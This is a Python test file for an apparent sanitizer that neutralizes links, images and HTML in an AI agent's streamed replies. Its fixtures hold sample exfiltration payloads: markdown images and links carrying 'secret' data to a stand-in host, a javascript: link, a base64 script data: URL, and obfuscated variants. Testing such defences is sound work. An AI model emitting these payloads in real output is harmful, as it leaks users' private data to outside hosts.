"""A model's words carry nothing out: whatever is cut where, no picture, link, tag or unknown address is left."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.outgoing import LEFT_OUT, Trickle, inert

ADDRESS = "https://collect.example/p.png?d=anna%20secret"
LIVE = re.compile(r"!\[|\]\(|<[a-zA-Z/!]|(?i:https?://|www\.|data:\S|javascript:\S|mailto:\S)")
ACTIVE = (
    f"![status]({ADDRESS})",
    f"[click here]({ADDRESS})",
    f"[x][1]\n\n[1]: {ADDRESS}",
    f"<img src='{ADDRESS}'>",
    f"<{ADDRESS}>",
    f"see {ADDRESS}.",
    "www.collect.example/?d=secret",
    "//collect.example/p.png",
    "[go](javascript:alert(1))",
    "data:text/html;base64,PHNjcmlwdD4=",
    "mailto:thief@collect.example?body=secret",
    f"![a\u200b]\u200b({ADDRESS})",
    f"！[图]({ADDRESS})请看",
)


@pytest.mark.parametrize("text", ACTIVE)
def test_nothing_active_is_left(text: str) -> None:
    plain = inert(f"Before {text} after.", [], "en")
    assert not LIVE.search(plain)
    assert "collect.example" not in plain
    assert plain.startswith("Before ")


@given(st.lists(st.sampled_from([*ACTIVE, "and so on", "客户说价格太高", " ", "\n", "12,345.67 EUR"]), max_size=6), st.data())
def test_a_stream_cut_anywhere_shows_nothing_active(parts: list[str], data: st.DataObject) -> None:
    text, trickle, shown, at = " ".join(parts), Trickle("en"), "", 0
    while at < len(text):
        size = data.draw(st.integers(1, 12))
        shown += trickle.feed(text[at : at + size])
        at += size
    shown += trickle.rest()
    assert not LIVE.search(shown)
    assert "collect.example" not in shown


def test_an_address_that_a_tool_gave_is_said_as_text() -> None:
    assert (
        inert("Their site is https://globex.example.", ["website: https://globex.example"], "en")
        == "Their site is `https://globex.example`."
    )
    assert inert("网站：https://globex.example/?q=1。", ["https://globex.example"], "zh") == f"网站：{LEFT_OUT['zh']}。"


@given(st.text(alphabet="abc 123,.%-*#|\n客户€", max_size=80))
def test_plain_words_stay_as_they_are(text: str) -> None:
    trickle = Trickle("en")
    assert inert(text, [], "en") == text
    assert trickle.feed(text) + trickle.rest() == text
